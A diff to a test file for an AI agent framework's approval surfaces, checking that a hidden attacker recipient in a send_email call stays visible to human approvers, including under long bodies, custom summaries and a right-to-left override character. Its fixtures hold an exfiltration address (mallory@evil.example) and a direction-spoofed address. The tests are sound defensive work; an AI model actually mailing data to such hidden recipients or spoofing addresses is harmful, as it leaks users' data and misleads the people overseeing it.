@@ -4,8 +4,8 @@
  * (past the old 200- and 300-character cuts) and 25,000 (past the console's
  * 20,000), and the recipient is the attacker's. Every surface where a person
  * decides must show that recipient whole: `toolwright approvals list`, the
- * terminal prompt, the console card in Chromium, MCP elicitation, and the AI
- * SDK and OpenAI Agents approval bridges. The full arguments are one step away
+ * terminal prompt, the console card in Chromium, MCP elicitation, the AI
+ * SDK and OpenAI Agents approval bridges, and plan-then-execute's `confirm`. The full arguments are one step away
  * (`approvals show`, the card's "all arguments"), and a bidirectional override
  * in a value is shown as `⟨U+202E⟩`, never obeyed.
  */
@@ -20,7 +20,7 @@ import { ScriptedModel, functionCall } from '@openai/agents/testing';
 import { generateText, stepCountIs, type ModelMessage } from 'ai';
 import { MockLanguageModelV4 } from 'ai/test';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createMemoryRunStore, runAgent, type AgentResult, type RunStore } from '../../src/agent/index.js';
+import { createMemoryRunStore, planThenExecute, runAgent, type AgentResult, type PlanConfirmation, type RunStore } from '../../src/agent/index.js';
 import { createToolGuards } from '../../src/agent/tool-guards.js';
 import { listApprovals, showApproval } from '../../src/cli/commands/approvals.js';
 import { printLogs } from '../../src/cli/commands/logs.js';
@@ -33,6 +33,7 @@ import { createScriptedModel, textTurn, toolCallTurn } from '../../src/models/sc
 import { defineTool } from '../../src/tools/define-tool.js';
 import { silentLogger } from '../../src/tools/tool-registry.js';
 import { CHROMIUM, launchChromium } from '../fixtures/chromium.js';
+import { structuredAnswersModel } from '../fixtures/structured-answers-model.js';
 
 const ATTACKER = 'mallory@evil.example';
 /** How the recipient must read on every surface: its name, then its value whole. */
@@ -44,12 +45,13 @@ function mailArguments(bodyLength: number): { body: string; subject: string; to:
   return { body: 'Please find the quarterly figures below. '.repeat(Math.ceil(bodyLength / 41)).slice(0, bodyLength), subject: 'Figures', to: ATTACKER };
 }
 
-function mailTool(sent: string[] = []) {
+function mailTool(sent: string[] = [], summarize?: (args: { body: string; subject: string; to: string }) => string) {
   return defineTool<{ body: string; subject: string; to: string }>({
     name: 'send_email',
     description: 'Sends an e-mail.',
     effect: 'write',
     confirm: true,
+    ...(summarize ? { summarize } : {}),
     inputSchema: {
       type: 'object',
       properties: { body: { type: 'string' }, subject: { type: 'string' }, to: { type: 'string' } },
@@ -193,6 +195,28 @@ describe('the hidden-recipient case on every approval surface', { timeout: 60_00
         expect(request?.reason).toContain(RECIPIENT_LINE);
       });
 
+      it("plan-then-execute's confirm gets the recipient in its prompt, even under a summarize that leads with the body", async () => {
+        const args = mailArguments(bodyLength);
+        for (const summarize of [undefined, ({ body }: { body: string }) => `Send this text: ${body}`]) {
+          const sent: string[] = [];
+          const asked: PlanConfirmation[] = [];
+          const result = await planThenExecute({
+            planner: structuredAnswersModel([{ calls: [{ tool: 'send_email', arguments: args }], holes: [], answer: 'Sent.' }]),
+            tools: [mailTool(sent, summarize)],
+            prompt: 'Send the figures to the team.',
+            confirm: (request) => (asked.push(request), false),
+          });
+          expect(result.status).toBe('completed');
+          expect(asked).toHaveLength(1);
+          // The line a custom summarize writes is cut at 300 characters: the recipient is gone from it, not from the prompt.
+          if (summarize) expect(asked[0]!.summary).not.toContain(ATTACKER);
+          expect(asked[0]!.prompt).toContain(RECIPIENT_LINE);
+          expect(asked[0]!.prompt).toMatch(/… \(\d+ more characters\)/);
+          expect(asked[0]!.argumentsSummary.decisive).toEqual([{ path: 'to', text: JSON.stringify(ATTACKER), omittedChars: 0 }]);
+          expect(sent).toEqual([]);
+        }
+      });
+
       it('the OpenAI Agents interruption is described with the recipient', async () => {
         setTracingDisabled(true);
         const guards = createToolGuards({ tools: [mailTool()] });
@@ -247,6 +271,22 @@ describe('invisible characters in the terminal', () => {
     } finally {
       await client.close();
     }
+  });
+});
+
+describe("plan-then-execute's confirm and invisible characters", () => {
+  it('writes a right-to-left override in the prompt and the structured arguments as ⟨U+202E⟩', async () => {
+    const asked: PlanConfirmation[] = [];
+    const args = { body: 'Hi\u200B', subject: 'Figures', to: 'mallory@\u202Emoc.elpmaxe' };
+    await planThenExecute({
+      planner: structuredAnswersModel([{ calls: [{ tool: 'send_email', arguments: args }], holes: [], answer: 'Sent.' }]),
+      tools: [mailTool()],
+      prompt: 'Send the figures to the team.',
+      confirm: (request) => (asked.push(request), false),
+    });
+    expect(asked[0]!.prompt).toContain('to: "mallory@⟨U+202E⟩moc.elpmaxe"');
+    expect(asked[0]!.prompt).not.toMatch(/[\u200B\u202E]/);
+    expect(asked[0]!.argumentsSummary.decisive[0]!.text).toBe('"mallory@⟨U+202E⟩moc.elpmaxe"');
   });
 });
 
